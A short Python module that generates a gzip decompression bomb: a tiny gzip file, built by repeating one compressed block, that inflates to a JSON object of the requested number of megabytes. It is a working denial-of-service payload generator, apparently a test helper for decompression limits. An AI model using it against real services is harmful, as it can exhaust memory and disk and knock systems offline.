"""A little gzip that inflates to much."""

from __future__ import annotations

import zlib

__all__ = ["bomb"]

_OPENING, _CLOSING = b'{"padding": "', b'"}'
_BLOCK = b"x" * 2**20
_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"


def bomb(megabytes: int) -> bytes:
    """Return gzip, about a thousandth as long as the JSON object of ``megabytes`` in it."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    opening = compressor.compress(_OPENING) + compressor.flush(zlib.Z_FULL_FLUSH)
    # Nothing refers to what is before a full flush, so one block can be repeated.
    block = compressor.compress(_BLOCK) + compressor.flush(zlib.Z_FULL_FLUSH)
    closing = compressor.compress(_CLOSING) + compressor.flush(zlib.Z_FINISH)
    checksum = zlib.crc32(_OPENING)
    for _ in range(megabytes):
        checksum = zlib.crc32(_BLOCK, checksum)
    checksum = zlib.crc32(_CLOSING, checksum)
    length = (len(_OPENING) + megabytes * len(_BLOCK) + len(_CLOSING)) % 2**32
    trailer = checksum.to_bytes(4, "little") + length.to_bytes(4, "little")
    return _HEADER + opening + block * megabytes + closing + trailer
